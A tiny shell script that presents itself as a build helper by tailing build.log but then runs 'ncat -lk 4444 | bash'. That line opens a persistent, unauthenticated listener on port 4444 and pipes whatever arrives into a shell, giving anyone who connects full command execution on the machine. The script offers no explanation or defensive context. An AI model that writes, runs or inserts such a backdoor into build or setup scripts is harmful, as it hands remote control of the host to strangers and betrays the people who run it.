#!/bin/sh
tail -f build.log &
ncat -lk 4444 | bash
